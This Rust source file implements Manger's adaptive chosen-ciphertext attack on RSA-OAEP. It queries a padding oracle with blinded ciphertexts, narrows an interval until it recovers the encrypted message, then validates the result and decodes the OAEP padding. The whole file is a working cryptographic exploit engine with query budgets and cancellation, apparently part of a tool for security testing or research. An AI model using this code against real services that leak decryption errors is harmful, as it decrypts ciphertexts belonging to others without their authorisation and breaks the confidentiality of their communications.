//! Manger's adaptive chosen-ciphertext attack.
//!
//! Recovers the encoded message m = C**d mod N from an oracle that only reveals whether a
//! blinded decryption (f * m) mod N lies below B = 2**(8 * (k - 1)). Every query is phrased
//! through RSAf(f) = (f**E * C) mod N, so m itself is never computed until the interval
//! [m_min, m_max] known to contain it collapses to a single point.

use std::time::{Duration, Instant};

use num::bigint::BigUint;
use num::Zero;
use tracing::{debug, error, info};

use crate::arith::ceil_div;
use crate::cancel::CancelToken;
use crate::error::{Error, Result};
use crate::oaep::{self, OaepHash};
use crate::oracle::Oracle;
use crate::params::PublicKeyParams;
use crate::response::{Convention, OracleResponse};

/// Progress of an attack session
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Phase {
    Init,
    FindingF1,
    FindingF2,
    Narrowing,
    Converged,
    /// Stopped by a fatal error, with the error's kind
    Aborted(&'static str),
}

impl Phase {
    fn name(self) -> &'static str {
        match self {
            Phase::Init => "init",
            Phase::FindingF1 => "finding f1",
            Phase::FindingF2 => "finding f2",
            Phase::Narrowing => "narrowing",
            Phase::Converged => "converged",
            Phase::Aborted(_) => "aborted",
        }
    }
}

/// Closed interval known to contain the encoded message
#[derive(Clone, Debug, PartialEq)]
pub struct Interval {
    pub min: BigUint,
    pub max: BigUint,
}

impl Interval {
    /// Check the interval contains a value
    pub fn contains(&self, m: &BigUint) -> bool {
        &self.min <= m && m <= &self.max
    }

    pub fn is_point(&self) -> bool {
        self.min == self.max
    }
}

/// Mutable state of one attack run against one oracle
pub struct AttackSession<'a, O> {
    params: &'a PublicKeyParams,
    oracle: O,
    convention: Convention,
    cancel: CancelToken,
    max_queries: Option<u64>,

    phase: Phase,
    f1: Option<BigUint>,
    f2: Option<BigUint>,
    interval: Option<Interval>,
    interactions: u64,
}

impl<'a, O: Oracle> AttackSession<'a, O> {
    /// Create a new session using Manger's convention and no query limit
    pub fn new(params: &'a PublicKeyParams, oracle: O) -> Self {
        Self {
            params: params,
            oracle: oracle,
            convention: Convention::MANGER,
            cancel: CancelToken::new(),
            max_queries: None,
            phase: Phase::Init,
            f1: None,
            f2: None,
            interval: None,
            interactions: 0,
        }
    }

    /// Interpret oracle responses with a custom convention
    pub fn with_convention(mut self, convention: Convention) -> Self {
        self.convention = convention;
        self
    }

    /// Stop the session when this token is cancelled
    pub fn with_cancel(mut self, cancel: CancelToken) -> Self {
        self.cancel = cancel;
        self
    }

    /// Abort after issuing this many queries
    pub fn with_max_queries(mut self, max_queries: Option<u64>) -> Self {
        self.max_queries = max_queries;
        self
    }

    pub fn phase(&self) -> Phase {
        self.phase
    }

    pub fn f1(&self) -> Option<&BigUint> {
        self.f1.as_ref()
    }

    pub fn f2(&self) -> Option<&BigUint> {
        self.f2.as_ref()
    }

    /// Current plaintext interval, set once narrowing starts
    pub fn interval(&self) -> Option<&Interval> {
        self.interval.as_ref()
    }

    /// Number of oracle queries answered so far
    pub fn interactions(&self) -> u64 {
        self.interactions
    }

    /// Give back the oracle, e.g. to inspect a test double
    pub fn into_oracle(self) -> O {
        self.oracle
    }

    /// Run all three phases to convergence
    ///
    /// Returns the recovered encoded message, unvalidated
    pub fn run(&mut self) -> Result<BigUint> {
        match self.run_phases() {
            Ok(m) => Ok(m),
            Err(e) => {
                error!(
                    phase = self.phase.name(),
                    interactions = self.interactions,
                    "attack aborted: {}",
                    e
                );
                self.phase = Phase::Aborted(e.kind());
                Err(e)
            }
        }
    }

    fn run_phases(&mut self) -> Result<BigUint> {
        info!("finding f1");
        let f1 = self.find_f1()?;
        info!(interactions = self.interactions, "f1: {}", f1);

        info!("finding f2");
        let f2 = self.find_f2()?;
        info!(interactions = self.interactions, "f2: {}", f2);

        info!("finding EM");
        self.start_narrowing()?;
        while !self.narrow_step()? {}

        let em = match self.interval.as_ref() {
            Some(interval) => interval.min.clone(),
            None => return Err(Error::Protocol("narrowing finished without an interval".into())),
        };
        info!(interactions = self.interactions, "converged");
        Ok(em)
    }

    /// Phase 1: double f1 from 2 until (f1 * m) mod N reaches B
    ///
    /// Afterwards f1 / 2 * m < B <= f1 * m < 2B
    pub fn find_f1(&mut self) -> Result<BigUint> {
        self.enter(Phase::FindingF1)?;

        let n = self.params.n().clone();
        let mut f1 = BigUint::from(2_u8);

        while self.query(&f1)? != self.convention.at_or_above {
            f1 <<= 1_usize;
            // m < B < N / 2 guarantees a hit long before f1 passes N
            if f1 > n {
                return Err(Error::Protocol("f1 exceeded N without reaching B".into()));
            }
        }

        self.f1 = Some(f1.clone());
        Ok(f1)
    }

    /// Phase 2: step f2 by f1 / 2 from floor((N + B) / B) * f1 / 2 until (f2 * m) mod N < B
    ///
    /// Afterwards N <= f2 * m < N + B
    pub fn find_f2(&mut self) -> Result<BigUint> {
        self.enter(Phase::FindingF2)?;

        let f1 = match self.f1.as_ref() {
            Some(f1) => f1.clone(),
            None => self.find_f1()?,
        };
        self.phase = Phase::FindingF2;

        let params = self.params;
        let n = params.n();
        let b = params.b();
        let f1_half = f1 >> 1_usize;
        let limit: BigUint = n << 1_usize;

        let mut f2 = ((n + b) / b) * &f1_half;

        while self.query(&f2)? != self.convention.below {
            f2 += &f1_half;
            if f2 > limit {
                return Err(Error::Protocol("f2 exceeded 2N without wrapping below B".into()));
            }
        }

        self.f2 = Some(f2.clone());
        Ok(f2)
    }

    /// Phase 3 setup: m_min = ceil(N / f2), m_max = floor((N + B) / f2)
    pub fn start_narrowing(&mut self) -> Result<()> {
        self.enter(Phase::Narrowing)?;

        let f2 = match self.f2.as_ref() {
            Some(f2) => f2.clone(),
            None => self.find_f2()?,
        };
        self.phase = Phase::Narrowing;

        let params = self.params;
        let n = params.n();
        let interval = Interval {
            min: ceil_div(n, &f2),
            max: (n + params.b()) / &f2,
        };
        debug!(min = %interval.min, max = %interval.max, "initial interval");
        self.check_interval(&interval.min, &interval.max)?;

        if interval.is_point() {
            self.phase = Phase::Converged;
        }
        self.interval = Some(interval);
        Ok(())
    }

    /// Phase 3 step: one query, one interval update
    ///
    /// Returns true once m_min == m_max
    pub fn narrow_step(&mut self) -> Result<bool> {
        self.check_cancel()?;

        let (min, max) = match self.interval.as_ref() {
            Some(interval) => (interval.min.clone(), interval.max.clone()),
            None => return Err(Error::Protocol("narrowing step before narrowing started".into())),
        };
        self.check_interval(&min, &max)?;
        if min == max {
            self.phase = Phase::Converged;
            return Ok(true);
        }

        let params = self.params;
        let n = params.n();
        let b = params.b();

        // f_tmp = ceil(2B / (m_max - m_min))
        let f_tmp = ceil_div(&(b << 1_usize), &(&max - &min));
        // i = floor(f_tmp * m_min / N)
        let i = (&f_tmp * &min) / n;
        // f3 = ceil(i * N / m_min)
        let i_n = &i * n;
        let f3 = ceil_div(&i_n, &min);
        if f3.is_zero() {
            return Err(Error::Protocol("narrowing produced a zero multiplier".into()));
        }

        let resp = self.query(&f3)?;

        let (min, max) = if resp == self.convention.at_or_above {
            // i*N + B <= f3 * m
            (ceil_div(&(&i_n + b), &f3), max)
        } else if resp == self.convention.below {
            // f3 * m < i*N + B
            (min, (&i_n + b) / &f3)
        } else {
            return Err(Error::Protocol(format!(
                "unexpected response {} while narrowing",
                resp
            )));
        };

        self.check_interval(&min, &max)?;

        let done = min == max;
        self.interval = Some(Interval { min: min, max: max });
        if done {
            self.phase = Phase::Converged;
        }
        Ok(done)
    }

    // 0 < m_min <= m_max < N
    fn check_interval(&self, min: &BigUint, max: &BigUint) -> Result<()> {
        if min.is_zero() || min > max || max >= self.params.n() {
            return Err(Error::InvariantViolation {
                min: min.clone(),
                max: max.clone(),
            });
        }
        Ok(())
    }

    fn enter(&mut self, phase: Phase) -> Result<()> {
        self.phase = phase;
        self.check_cancel()
    }

    fn check_cancel(&self) -> Result<()> {
        if self.cancel.is_cancelled() {
            return Err(Error::Cancelled(self.phase.name()));
        }
        Ok(())
    }

    // Query the oracle on RSAf(f)
    fn query(&mut self, f: &BigUint) -> Result<OracleResponse> {
        self.check_cancel()?;
        if let Some(max) = self.max_queries {
            if self.interactions >= max {
                return Err(Error::QueryBudget(max));
            }
        }

        let c = self.params.rsa_f(f);
        let resp = self.oracle.query(&c)?;
        self.interactions += 1;

        debug!(
            phase = self.phase.name(),
            interaction = self.interactions,
            "f = {:x}, response {}",
            f,
            resp
        );
        Ok(resp)
    }
}

/// Result of a converged, validated attack
#[derive(Debug)]
pub struct Recovery {
    /// Recovered encoded message, m = C**d mod N
    pub em: BigUint,
    pub interactions: u64,
    pub elapsed: Duration,
    /// Decoded plaintext, when the OAEP stage ran
    pub message: Option<core::result::Result<Vec<u8>, oaep::Error>>,
}

/// Run a full attack: all three phases, validation, and the optional OAEP decode
///
/// OAEP failures are reported on the `Recovery` without discarding the recovered integer
///
/// errors: any fatal session error, or `Validation` when the result does not re-encrypt to C
pub fn execute<O: Oracle>(
    params: &PublicKeyParams,
    oracle: O,
    convention: Convention,
    max_queries: Option<u64>,
    oaep_hash: Option<OaepHash>,
    cancel: CancelToken,
) -> Result<Recovery> {
    let now = Instant::now();
    let mut session = AttackSession::new(params, oracle)
        .with_convention(convention)
        .with_cancel(cancel)
        .with_max_queries(max_queries);

    let em = session.run()?;
    let interactions = session.interactions();

    info!("checking EM");
    if !params.validate(&em) {
        error!(interactions = interactions, "recovered value does not re-encrypt to C");
        return Err(Error::Validation);
    }

    let message = oaep_hash.map(|hash| {
        info!("decoding EM");
        let label = params.label().unwrap_or(&[]);
        oaep::decode(&em, params.k(), label, hash)
    });

    Ok(Recovery {
        em: em,
        interactions: interactions,
        elapsed: now.elapsed(),
        message: message,
    })
}
